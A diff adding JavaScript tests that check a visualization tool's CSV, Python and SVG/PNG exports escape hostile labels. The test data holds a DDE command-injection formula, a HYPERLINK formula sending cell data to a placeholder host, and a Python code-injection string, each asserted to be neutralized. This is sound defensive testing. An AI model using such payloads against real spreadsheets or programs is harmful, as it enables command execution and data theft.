@@ -1,0 +1,221 @@
+// Files that hold texts of others, tokens and labels: a spreadsheet computes none of them, a picture of
+// them is well-formed, a program quotes them, and an export that fails says so.
+
+import assert from 'node:assert/strict';
+import { spawnSync } from 'node:child_process';
+import { readFile } from 'node:fs/promises';
+import { after, before, test } from 'node:test';
+import { csv } from '../web/draw/files.js';
+import { claimCode } from '../web/elements/claim-code.js';
+import { parse } from '../web/elements/claim-parse.js';
+import { start } from './browser.js';
+
+/** @param {string[]} labels @param {number[]} [values] */
+const saved = (labels, values = labels.map(() => -1)) =>
+  csv({
+    name: 'a',
+    tensor: { shape: [labels.length, 1], data: Float32Array.from(values) },
+    rowtitle: labels[0],
+    columntitle: 'query',
+    rowname: (row) => labels[row],
+    columnname: () => labels[0],
+  }).text();
+
+/** The cells of a line as RFC 4180 has them. @param {string} text */
+function cells(text) {
+  /** @type {string[][]} */
+  const lines = [[]];
+  for (const [, quoted, plain = '', end] of text.matchAll(
+    /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g,
+  )) {
+    lines[lines.length - 1].push(quoted?.replaceAll('""', '"') ?? plain);
+    if (end === '\r\n') lines.push([]);
+  }
+  return lines.slice(0, -1);
+}
+
+test('a label that a spreadsheet would compute begins with a quote, and all of it is there', async () => {
+  const formulas = [
+    '=1+1',
+    '=HYPERLINK("http://a.example?"&A1,"x")',
+    '+1+1',
+    '-1+1',
+    '-cmd|" /C calc"!A0',
+    '@SUM(1)',
+    '\t=1',
+    '\r=1',
+    '\n=1',
+    '＝1',
+    '-',
+    '+-1',
+    '-1,5',
+  ];
+  const lines = cells(await saved(formulas));
+  assert.deepEqual(
+    lines.slice(1).map(([label]) => label),
+    formulas.map((label) => `'${label}`),
+  );
+  assert.deepEqual(lines[0], ["'=1+1 \\ query", "'=1+1"]);
+  // and it is in double quotes, so that no other separator ends it
+  for (const label of formulas) {
+    assert.ok((await saved([label])).includes(`"'${label.replaceAll('"', '""')}"`), label);
+  }
+});
+
+test('numbers stay numbers: as values, and as labels', async () => {
+  const numbers = ['-1', '+1', '0', '-0.5', '-1e-7', '+.5E+3', '12', '-3.'];
+  const values = [-1, 1, 0, -0.5, -1e-7, 500, Infinity, -Infinity];
+  const lines = cells(await saved(numbers, values));
+  assert.deepEqual(
+    lines.slice(1).map(([label]) => label),
+    numbers,
+  );
+  assert.deepEqual(
+    lines.slice(1).map(([, value]) => Math.fround(Number(value))),
+    values.map(Math.fround),
+  );
+  const plain = ['bank', 'a=b', '−3', "it's", '2-1', ' x', 'नमस्ते'];
+  assert.deepEqual(
+    cells(await saved(plain)).slice(1).map(([label]) => label), // prettier-ignore
+    plain,
+  );
+});
+
+const python = ['python3', '/usr/bin/python3'].find(
+  (each) => spawnSync(each, ['-c', 'import numpy']).status === 0,
+);
+
+test('a text in a program of a claim is that text in Python', () => {
+  assert.ok(python, 'no python3 has numpy: install it (Debian: python3-numpy)');
+  const texts = [
+    `"'\\`,
+    'a\nprint(1)',
+    '\r\n\t\0\u001b',
+    '"""',
+    '\\" + __import__("os").name + \\"',
+    'xp.array xp.pi',
+    '\u2028\u2029\u0085\ufffe\uffff',
+    '{x} %s $x',
+    'नमस्ते 👍🏽',
+  ];
+  for (const text of texts) {
+    // jsep reads a backslash as JavaScript does
+    const source = JSON.stringify(text).replaceAll("'", "\\'");
+    const tree = parse(source.replace(/\\u([0-9a-f]{4})/g, (_, code) => String.fromCharCode(Number.parseInt(code, 16)))); // prettier-ignore
+    assert.equal(tree.kind, 'text');
+    const { value } = /** @type {{ value: string }} */ (tree);
+    const program = claimCode('numpy', tree).replace(/print\(([^]*)\)\n$/, 'import json\nprint(json.dumps($1))'); // prettier-ignore
+    const { status, stdout, stderr } = spawnSync(String(python), ['-W', 'error', '-'], {
+      input: program,
+      encoding: 'utf8',
+    });
+    assert.equal(status, 0, `${program}\n${stderr}`);
+    assert.equal(JSON.parse(stdout), value);
+  }
+  // half of a pair cannot be printed
+  assert.match(claimCode('numpy', parse('"a\ud800b"')), /print\("a\ufffdb"\)/);
+  assert.match(claimCode('numpy', parse('007 + 0.5')), /\(7 \+ 0\.5\)/);
+});
+
+// ---- in a page ----
+
+/** @type {Awaited<ReturnType<typeof start>>} */
+let browser;
+before(async () => {
+  browser = await start();
+});
+after(() => browser.close());
+
+const hostile = ['\u0000\u0001\u001b', '\ufffe\uffff', '\ud800', '\udc00x', 'a\u0008b', '👍🏽<&]]>'];
+
+/** @param {string} body @param {string} [lang] */
+async function open(body, lang = 'en') {
+  const opened = await browser.open('export.html', {
+    html: `<!doctype html><html lang="${lang}"><title>export</title><script type="module">
+      import './elements/define.js';
+      import './elements/lessons.js';</script><main>${body}</main></html>`,
+  });
+  await opened.page.waitForFunction(() =>
+    document.querySelector('#a')?.shadowRoot?.querySelector('.frame.ready'),
+  );
+  return opened;
+}
+
+test('tokens of characters that XML has not: SVG and PNG are saved, with U+FFFD instead', async () => {
+  const { page, complaints, close } = await open(
+    '<phasor-heatmap id="a"></phasor-heatmap><phasor-attention id="b" view="all"></phasor-attention>',
+  );
+  const found = await page.evaluate(async (tokens) => {
+    const { svg, png } = await import(/** @type {any} */ ('/draw/snapshot.js'));
+    const size = tokens.length;
+    const [map, heads] = /** @type {any[]} */ ([...document.querySelectorAll('#a, #b')]);
+    const rows = Array.from({ length: size }, () => Array.from({ length: size }, () => 1 / size));
+    Object.assign(map, { tensor: rows, rowlabels: tokens, columnlabels: tokens });
+    Object.assign(heads, { weights: [rows], tokens });
+    const results = [];
+    for (const element of [map, heads]) {
+      const root = element.shadowRoot;
+      while (!root.querySelector('.frame.ready')) await new Promise(requestAnimationFrame);
+      await new Promise(requestAnimationFrame);
+      // also a text that no figure shortens or filters
+      root.querySelector('.figure').append(Object.assign(document.createElement('p'), { textContent: tokens.join('') })); // prettier-ignore
+      const text = await svg(root.querySelector('.figure')).text();
+      const parsed = new DOMParser().parseFromString(text, 'image/svg+xml');
+      const picture = await png(root.querySelector('.figure'));
+      results.push({
+        error: parsed.querySelector('parsererror')?.textContent ?? '',
+        replaced: text.includes('\ufffd'),
+        kept: (parsed.documentElement.textContent ?? '').includes('👍🏽<&]]>'),
+        bytes: picture.size,
+      });
+    }
+    return results;
+  }, hostile);
+  for (const { error, replaced, kept, bytes } of found) {
+    assert.deepEqual([error, replaced, kept], ['', true, true]);
+    assert.ok(bytes > 1000);
+  }
+  assert.deepEqual(complaints, []);
+  await close();
+});
+
+test('an export that fails says so where the reader looks, in the reader’s language', async () => {
+  for (const [lang, said] of /** @type {const} */ ([
+    ['en', /^No PNG was saved: The picture is too large for this browser\.$/],
+    ['hi', /^PNG नहीं सहेजी गई: चित्र इस ब्राउज़र/],
+  ])) {
+    const { page, close } = await open('<phasor-curves id="a" length="5"></phasor-curves>', lang);
+    await page.evaluate(() => {
+      HTMLCanvasElement.prototype.toBlob = (act) => act(null);
+    });
+    await page.locator('#a').hover();
+    await page.locator('#a summary').click();
+    await page.locator('#a .panel button').first().click();
+    const message = page.locator('#a .trouble');
+    await page.waitForFunction(
+      () => document.querySelector('#a')?.shadowRoot?.querySelector('.trouble')?.textContent,
+    );
+    // and it stays when the figure, higher by the message, is drawn again
+    await page.evaluate(async () => {
+      for (let k = 0; k < 4; ++k) await new Promise(requestAnimationFrame);
+    });
+    assert.match((await message.textContent()) ?? '', said);
+    await close();
+  }
+});
+
+test('a saved CSV of a figure holds its tokens as texts', async () => {
+  const { page, close } = await open('<phasor-heatmap id="a"></phasor-heatmap>');
+  await page.evaluate(() => {
+    const map = /** @type {any} */ (document.querySelector('#a'));
+    const tokens = ['=1+1', '-2'];
+    Object.assign(map, { tensor: [[1, -2], [3, 4]], rowlabels: tokens, columnlabels: tokens }); // prettier-ignore
+  });
+  await page.locator('#a').hover();
+  await page.locator('#a summary').click();
+  const waiting = page.waitForEvent('download');
+  await page.getByRole('button', { name: 'Save CSV' }).click();
+  const bytes = await readFile(await (await waiting).path());
+  assert.equal(bytes.toString(), `row \\ column,"'=1+1",-2\r\n"'=1+1",1,-2\r\n-2,3,4\r\n`);
+  await close();
+});
